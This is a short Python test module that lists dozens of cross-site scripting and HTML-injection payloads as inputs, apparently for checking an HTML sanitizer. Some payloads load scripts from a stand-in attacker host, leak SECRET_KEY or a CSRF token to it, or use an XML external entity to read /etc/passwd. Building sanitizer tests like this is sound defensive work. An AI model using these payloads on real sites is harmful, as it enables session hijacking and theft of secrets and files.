"""HTML that people with bad intentions have tried elsewhere, one attack a line."""

ATTACKS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script
<script>alert(1)//
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img/src=x/onerror=alert(1)//
<image src=x onerror=alert(1)>
<p onclick="alert(1)">tap</p>
<p style="background:url(https://evil.example/pixel)">x</p>
<p class="prose" id="main" data-html="x" hx-get="/me/">x</p>
<strong/onmouseover=alert(1)>x</strong>
<em autofocus tabindex=1 onfocus=alert(1)>x</em>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="https://evil.example/?{{ SECRET_KEY }}">x</a>
<blockquote cite="javascript:alert(1)">x</blockquote>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<style>@import url(https://evil.example/x.css);</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action="https://evil.example"><input name=csrfmiddlewaretoken><button>Send</button></form>
<form id="compose"></form><button form="compose" formaction="https://evil.example">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>
<body onload=alert(1)><html manifest=x>
<marquee onstart=alert(1)>x</marquee>
<template><img src=x onerror=alert(1)></template>
<table><tr><td background="javascript:alert(1)">x</table>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<p>{{ request.user.email }}{% load static %}</p>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
<\u0130mg src=x onerror=alert(1)>
<p\u0000 onclick=alert(1)>x</p\u0000>
\ufeff<script>alert(1)</script>
<<p>script>alert(1)<</p>/script>
<p title="a>b" onclick='c"d'>x</p>
<p
onclick
=
alert(1)
>x</p>
<custom-element onclick=alert(1)>x</custom-element>
<p xmlns:xlink="x" xlink:href="javascript:alert(1)">x</p>
<li value=javascript:alert(1)>x
<ol start="-1" type="javascript:alert(1)"><li>x</ol>
""".strip("\n").split("\n")
# Lines that belong together: a tag may be spread over several.
ATTACKS += ["\n".join(ATTACKS), " ".join(ATTACKS), "".join(reversed(ATTACKS))]
